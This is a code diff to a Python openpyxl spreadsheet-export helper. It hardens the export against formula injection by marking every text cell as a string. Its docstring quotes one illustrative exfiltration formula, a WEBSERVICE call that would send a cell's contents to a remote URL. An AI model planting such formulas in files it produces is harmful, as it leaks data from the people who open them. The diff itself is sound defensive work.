@@ -11,11 +11,19 @@ from openpyxl.utils import get_column_letter
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
-def _text_safe(value):
-    # A cell that starts with = + - @ would run as a formula when opened.
-    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@"):
-        return "'" + value
-    return value
+def write_row(sheet, values: list) -> None:
+    """Append a row, every text written as text: the one writer of every .xlsx the
+    product makes (templates, exports, briefings).
+
+    openpyxl stores a string that begins with "=" as a live formula, so a note
+    typed as `=WEBSERVICE("http://…"&D3)` would run in whoever opens the file.
+    Marking each text cell a string keeps it the text it is, without the
+    apostrophe a prefix would show ("'+2.9").
+    """
+    sheet.append(values)
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
 
 
 def sheet_response(
@@ -25,20 +33,20 @@ def sheet_response(
     book = Workbook()
     sheet = book.active
     sheet.title = title[:31]
-    sheet.append([title])
+    write_row(sheet, [title])
     sheet["A1"].font = Font(bold=True, size=14)
     widths: dict[int, int] = {}
     for heading, headers, rows in sections:
-        sheet.append([])
+        write_row(sheet, [])
         if heading:
-            sheet.append([heading])
+            write_row(sheet, [heading])
             sheet.cell(sheet.max_row, 1).font = Font(bold=True)
-        sheet.append(headers)
+        write_row(sheet, headers)
         for cell in sheet[sheet.max_row]:
             cell.font = Font(bold=True)
             cell.fill = PatternFill("solid", fgColor="E5E7EB")
         for row in rows:
-            sheet.append([_text_safe(v) for v in row])
+            write_row(sheet, row)
         for index, header in enumerate(headers, 1):
             longest = max([len(str(header))] + [len(str(r[index - 1])) for r in rows])
             widths[index] = max(widths.get(index, 0), min(60, longest * 2 + 2))
